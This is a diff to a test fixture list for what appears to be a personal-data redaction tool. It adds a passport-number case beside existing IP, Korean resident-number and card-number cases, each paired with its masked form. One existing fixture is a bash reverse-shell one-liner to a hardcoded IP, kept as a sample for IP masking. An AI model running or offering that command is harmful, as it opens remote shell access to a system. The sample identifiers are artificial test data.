@@ -44,6 +44,7 @@ FOUND = [
     ("ip", "IP175.223.10.11에서", "IP<|ip|>에서"),
     ("ip", "bash -i >& /dev/tcp/101.106.9.22/4444 0>&1", "bash -i >& /dev/tcp/<|ip|>/4444 0>&1"),
     ("rrn", "근로자 731220-2554955 원천징수", "근로자 <|rrn|> 원천징수"),
+    ("passport", "PassportM91827364 issued 2020", "Passport<|passport|> issued 2020"),
     ("card", "카드 도용 신고: 4539 1488 0343 6467", "카드 도용 신고: <|card|>"),
     # the numbers of a version, but used as an address
     ("ip", "서버 7.44.20.39에 접속", "서버 <|ip|>에 접속"),
